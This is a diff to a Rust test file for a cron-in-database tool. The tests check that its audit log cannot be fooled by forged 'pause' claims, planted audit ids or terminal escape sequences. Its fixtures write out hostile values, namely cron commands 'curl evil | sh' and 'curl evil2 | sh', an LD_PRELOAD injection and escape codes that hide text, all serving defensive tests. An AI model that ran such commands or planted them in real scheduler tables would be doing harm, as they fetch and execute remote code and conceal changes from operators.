@@ -69,6 +69,41 @@ fn forged_claim_write(dialect: Dialect) -> Vec<&'static str> {
     }
 }
 
+/// A claim whose words only *contain* the changed columns' names ("commander", "environment",
+/// "run_user_policy"), and a claimed insert called a pause.
+fn sly_claim_writes(dialect: Dialect) -> Vec<&'static str> {
+    match dialect {
+        Dialect::Postgres => vec![
+            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user_policy)"}', true);
+               UPDATE cron_table SET command = 'curl evil2 | sh', env = '{"LD_PRELOAD":"/tmp/y.so"}', run_user = 'nobody', changed_by = 's1' WHERE name = 'a'; END $$"#,
+            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s2","action":"pause","who":"alice","detail":"paused"}', true);
+               INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('evil', '@daily', 'curl evil | sh', 's2'); END $$"#,
+        ],
+        Dialect::Mysql => vec![
+            r#"SET @sqlcron_claim = '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user_policy)"}'"#,
+            r#"UPDATE cron_table SET command = 'curl evil2 | sh', env = '{"LD_PRELOAD":"/tmp/y.so"}', run_user = 'nobody', changed_by = 's1' WHERE name = 'a'"#,
+            r#"SET @sqlcron_claim = '{"marker":"s2","action":"pause","who":"alice","detail":"paused"}'"#,
+            "INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('evil', '@daily', 'curl evil | sh', 's2')",
+        ],
+        Dialect::Sqlite => vec![],
+    }
+}
+
+/// A row planted in cron_audit with the id the next audited change would get (PostgreSQL) or
+/// the largest id there is (MySQL): before, every later audited change failed on it.
+fn planted_audit_row(dialect: Dialect) -> &'static str {
+    match dialect {
+        Dialect::Postgres => {
+            "INSERT INTO cron_audit (id, at, action, job, who, detail, db_user) \
+             VALUES ((SELECT last_value + 1 FROM cron_audit_id_seq), 1, 'pause', 'a', 'alice', NULL, 'alice@ops-1')"
+        }
+        _ => {
+            "INSERT INTO cron_audit (id, at, action, job, who, detail, db_user) \
+             VALUES (9223372036854775807, 1, 'pause', 'a', 'alice', NULL, 'alice@ops-1')"
+        }
+    }
+}
+
 async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
     let db = TestDb::new(dialect).await;
     let store = db.store().await;
@@ -163,11 +198,9 @@ async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
     );
 
     // A row inserted into cron_audit directly names its real writer too, whatever it says.
+    // It cannot choose its id either: a planted id would make the next audited change fail.
     writer
-        .execute_raw(
-            "INSERT INTO cron_audit (at, action, job, who, detail, db_user) \
-             VALUES (1, 'pause', 'a', 'alice', NULL, 'alice@ops-1')",
-        )
+        .execute_raw(planted_audit_row(dialect))
         .await
         .unwrap();
     let direct = rows_after(&store, c.id).await;
@@ -176,10 +209,51 @@ async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
         direct[0].db_user.as_deref().unwrap_or("").starts_with(user),
         "{direct:?}"
     );
+    assert!(
+        direct[0].id > c.id && direct[0].id < c.id + 1000,
+        "the database chose the id: {direct:?}"
+    );
+
+    // A claim whose words only contain the columns' names hides none of them; a claimed
+    // insert says it was one.
+    for sql in sly_claim_writes(dialect) {
+        writer.execute_raw(sql).await.unwrap();
+    }
+    let sly = rows_after(&store, direct[0].id).await;
+    let said: Vec<(&str, &str, Option<&str>)> = sly
+        .iter()
+        .map(|r| {
+            (
+                r.action.as_str(),
+                r.job.as_deref().unwrap_or(""),
+                r.detail.as_deref(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        said,
+        vec![
+            (
+                "pause",
+                "a",
+                Some(
+                    "paused at the request of the commander (environment freeze, \
+                     wiki/run_user_policy) (the database saw: changed command,env,run_user)"
+                )
+            ),
+            (
+                "pause",
+                "evil",
+                Some("paused (the database saw: an insert)")
+            ),
+        ],
+        "{sly:?}"
+    );
     writer.close().await;
+    let direct = sly;
 
     // sqlcron's own changes are still one row each, with the operator and the database user.
-    let before = direct[0].id;
+    let before = direct.last().unwrap().id;
     assert!(store.set_enabled("a", false, &alice()).await.unwrap());
     assert!(store.set_enabled("a", false, &alice()).await.unwrap());
     store
@@ -200,7 +274,9 @@ async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
             (
                 "apply_restore",
                 "alice",
-                Some("restored command,run_user to the TOML definition (changed outside the file)")
+                Some(
+                    "restored command,env,run_user to the TOML definition (changed outside the file)"
+                )
             ),
         ],
         "{own:?}"
@@ -214,3 +290,28 @@ async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
 }
 
 for_each_dialect!(a_session_setting_skips_no_audit_row);
+
+/// A row's text reaches the operator's terminal with its control characters shown, not sent: a
+/// planted audit row with an escape that hides what follows, or a carriage return that
+/// overwrites the DATABASE USER column, hides nothing.
+#[tokio::test]
+async fn the_cli_shows_control_characters_as_escapes() {
+    let db = TestDb::new(Dialect::Sqlite).await;
+    let store = db.store().await;
+    store
+        .execute_raw(
+            "INSERT INTO cron_audit (at, action, job, who, detail) \
+             VALUES (1, 'pause', 'a', 'alice', 'paused' || char(27) || '[8m' || char(13) || 'hidden')",
+        )
+        .await
+        .unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = dir.path().join("node.toml");
+    std::fs::write(&cfg, crate::util::node_config(&db.url, "n", "")).unwrap();
+    let out = crate::util::sqlcron(&["--config", cfg.to_str().unwrap(), "audit"]);
+    assert!(out.status.success(), "{}", crate::util::stderr(&out));
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{text:?}");
+    assert!(text.contains("paused\\u{1b}[8m\\u{d}hidden"), "{text}");
+    store.close().await;
+}
